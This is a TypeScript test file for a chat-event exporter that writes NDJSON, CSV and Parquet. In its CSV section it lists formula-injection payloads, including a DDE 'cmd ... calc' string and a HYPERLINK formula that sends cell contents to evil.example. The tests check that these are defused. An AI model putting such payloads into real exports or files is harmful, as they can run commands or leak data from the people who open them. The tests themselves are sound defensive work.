import { createHash } from 'node:crypto'
import { once } from 'node:events'
import type { Worker } from 'node:worker_threads'
import type { UnifiedEvent } from '@livetap/contracts/unified-event.ts'
import { parquetReadObjects } from 'hyparquet'
import { describe, expect, it } from 'vitest'
import { Exporter, type ExportFormat, exportFormats } from './exports.ts'

const sessionId = '0b9f3f0e-5a51-4c53-9d4e-0a2f6c1d7e55'

function createChat(seqNo: number, message: string, displayName = 'Mira'): UnifiedEvent {
  const time = new Date(Date.UTC(2026, 2, 1, 20, 0, 0, seqNo)).toISOString()
  return {
    schemaVersion: '1',
    eventId: createHash('sha256').update(String(seqNo)).digest('hex'),
    workspaceId: 'default',
    streamId: '7300000000000000001',
    sessionId,
    source: 'live',
    seqNo,
    timestamp: time,
    ingestedAt: time,
    eventType: 'CHAT',
    triggerId: 1,
    user: {
      userId: '6800000000000000042',
      uniqueId: 'mira',
      displayName,
      avatarUrl: '',
      followRole: 1,
      isModerator: false,
      isSubscriber: true,
      teamMemberLevel: 7,
    },
    payload: { message, emotes: [], language: 'en' },
  }
}

async function* paged(events: readonly UnifiedEvent[], size = 3): AsyncGenerator<string> {
  for (let at = 0; at < events.length; at += size) {
    yield events
      .slice(at, at + size)
      .map((event) => JSON.stringify(event))
      .join('\n')
  }
}

async function write(format: ExportFormat, events: readonly UnifiedEvent[], size?: number): Promise<Buffer> {
  const chunks: Buffer[] = []
  for await (const chunk of new Exporter().begin(format, paged(events, size)).body) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}

/** Reads RFC 4180, as a spreadsheet would. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}

const readColumn = (rows: string[][], name: string) => rows.slice(1).map((row) => row[rows[0]?.indexOf(name) ?? -1])

const hostile = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'ends\r\n', '🌻 émoji', "it's", '', ' =1', 'ütf', '<b>']

describe('NDJSON', () => {
  it('holds one whole event a line', async () => {
    const events = hostile.map((text, index) => createChat(index, text))
    const text = (await write('ndjson', events)).toString()
    expect(text.endsWith('\n')).toBe(true)
    expect(
      text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual(events)
  })

  it('of nothing is empty', async () => expect(await write('ndjson', [])).toHaveLength(0))
})

describe('CSV', () => {
  it('gives back what was put in', async () => {
    const events = hostile.map((text, index) => createChat(index, text, text))
    const rows = readCsv((await write('csv', events)).toString())
    expect(new Set(rows.map((row) => row.length)).size).toBe(1)
    expect(readColumn(rows, 'message')).toEqual(hostile)
    expect(readColumn(rows, 'displayName')).toEqual(hostile)
    expect(readColumn(rows, 'seqNo')).toEqual(events.map((event) => String(event.seqNo)))
    expect(readColumn(rows, 'isSubscriber')).toEqual(events.map(() => 'true'))
    expect(readColumn(rows, 'giftName')).toEqual(events.map(() => ''))
    expect(readColumn(rows, 'payload').map((json) => JSON.parse(json ?? ''))).toEqual(events.map((e) => e.payload))
  })

  it('of nothing is its header', async () => {
    expect(readCsv((await write('csv', [])).toString())).toHaveLength(1)
  })

  const formulas = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'].flatMap((first) => [
    `${first}cmd|' /C calc'!A0`,
    `${first}HYPERLINK("http://evil.example?x="&A1,"click")`,
    `${first}1+1,=2`,
    first,
    `${first}\n=1`,
    `${first}"`,
  ])
  it('keeps all of them from being formulas in every column that holds a text', async () => {
    const everywhere = formulas.map((text, index) => {
      const named = { userId: text, uniqueId: text, displayName: text, avatarUrl: text }
      const payload = { message: text, language: text, giftId: text, giftName: text, streakId: text }
      const { user, ...event } = createChat(index, text)
      return { ...event, streamId: text, user: { ...user, ...named }, payload } as unknown as UnifiedEvent
    })
    const rows = readCsv((await write('csv', everywhere)).toString())
    expect(rows).toHaveLength(1 + formulas.length)
    const names = [
      'streamId',
      'userId',
      'uniqueId',
      'displayName',
      'message',
      'language',
      'giftId',
      'giftName',
      'streakId',
    ]
    for (const name of names) expect(readColumn(rows, name), name).toEqual(formulas.map((text) => `'${text}`))
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([])
  })

  let written: Promise<Buffer> | undefined
  it.each(formulas)('keeps %j from being a formula', async (text) => {
    written ??= write(
      'csv',
      formulas.map((formula, index) => createChat(index, formula, formula)),
    )
    const rows = readCsv((await written).toString())
    const at = formulas.indexOf(text)
    const cells = rows[at + 1] ?? []
    expect(readColumn(rows, 'message')[at]).toBe(`'${text}`)
    expect(readColumn(rows, 'displayName')[at]).toBe(`'${text}`)
    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([])
  })
})

describe('Parquet', () => {
  const read = async (bytes: Buffer) =>
    parquetReadObjects({ file: new Uint8Array(bytes).buffer }) as Promise<Record<string, unknown>[]>

  it('gives back what was put in, over several row groups', async () => {
    const events = Array.from({ length: 5001 }, (_, index) => createChat(index, hostile[index % hostile.length] ?? ''))
    const rows = await read(await write('parquet', events, 700))
    expect(rows).toHaveLength(events.length)
    expect(rows.map((row) => row.message)).toEqual(events.map((e) => (e.payload as { message: string }).message))
    expect(rows.map((row) => row.seqNo)).toEqual(events.map((event) => BigInt(event.seqNo)))
    expect(rows[5]).toMatchObject({
      eventId: events[5]?.eventId,
      eventType: 'CHAT',
      timestamp: new Date(events[5]?.timestamp ?? ''),
      isModerator: false,
      isSubscriber: true,
      followRole: 1n,
      giftName: null,
      coins: null,
      userId: '6800000000000000042',
    })
    expect(JSON.parse(String(rows[7]?.payload))).toEqual(events[7]?.payload)
  })

  it('of nothing is a file without rows', async () => expect(await read(await write('parquet', []))).toEqual([]))
})

/** Pages without end, which count how many were read and say when they were given up. */
function createEndless() {
  const seen = { read: 0, ended: false }
  async function* pages(): AsyncGenerator<string> {
    try {
      for (;;) {
        seen.read += 1
        yield JSON.stringify(createChat(seen.read, String(seen.read).padEnd(10_000, 'x')))
      }
    } finally {
      seen.ended = true
    }
  }
  return { seen, pages: pages() }
}

const nextWorker = async () => ((await once(process, 'worker')) as [Worker])[0]

describe.each(exportFormats)('an export as %s', (format) => {
  it('reads no further than its reader, and stops when that goes away', async () => {
    const { seen, pages } = createEndless()
    const { body } = new Exporter().begin(format, pages)
    await body[Symbol.asyncIterator]().next()
    let before = -1
    await expect
      .poll(
        () => {
          const still = seen.read === before
          before = seen.read
          return still
        },
        { interval: 300 },
      )
      .toBe(true)
    // Parquet gathers a group of rows before it writes any of them.
    expect(seen.read).toBeLessThan(format === 'parquet' ? 4100 : 40)
    body.destroy()
    await expect.poll(() => seen.ended).toBe(true)
  })

  it('tells a failure to read, and is over', async () => {
    async function* failing(): AsyncGenerator<string> {
      yield JSON.stringify(createChat(1, 'one'))
      throw new Error('the database is gone')
    }
    const { body } = new Exporter().begin(format, failing())
    await expect(body.toArray()).rejects.toThrow('the database is gone')
    expect(body.closed).toBe(true)
  })

  it('does not mix with another at the same time', async () => {
    const exporter = new Exporter()
    const texts = ['first', 'second']
    const collect = async (text: string) => {
      const events = Array.from({ length: 50 }, (_, index) => createChat(index, text))
      return Buffer.concat(await exporter.begin(format, paged(events)).body.toArray())
    }
    const together = await Promise.all(texts.map(collect))
    expect(together).toEqual([await collect('first'), await collect('second')])
    expect(together[0]?.equals(together[1] as Buffer)).toBe(false)
  })
})

describe('the thread of an export', () => {
  it.each(['csv', 'parquet'] as const)('of %s ends when its reader goes away', async (format) => {
    const { seen, pages } = createEndless()
    const started = nextWorker()
    const { body } = new Exporter().begin(format, pages)
    await body[Symbol.asyncIterator]().next()
    const exit = once(await started, 'exit')
    body.destroy()
    await exit
    await expect.poll(() => seen.ended).toBe(true)
  })

  it('ends with the file', async () => {
    const started = nextWorker()
    const { body } = new Exporter().begin('csv', paged([createChat(1, 'one')]))
    body.resume()
    await once(await started, 'exit')
  })

  it('that dies ends the export with an error', async () => {
    const started = nextWorker()
    const { seen, pages } = createEndless()
    const { body } = new Exporter().begin('csv', pages)
    const read = body.forEach(() => {})
    await (await started).terminate()
    await expect(read).rejects.toThrow('ended early')
    expect(seen.ended || seen.read === 0).toBe(true)
  })
})

describe('the exporter', () => {
  it('is refused while too many run, and not any more when one has ended', async () => {
    const exporter = new Exporter()
    const bodies = Array.from({ length: 4 }, () => exporter.begin('csv', paged([])).body)
    expect(() => exporter.begin('csv', paged([]))).toThrow('running already')
    bodies[0]?.destroy()
    await expect.poll(() => exporter.begin('csv', paged([]))).toBeDefined()
  })
})
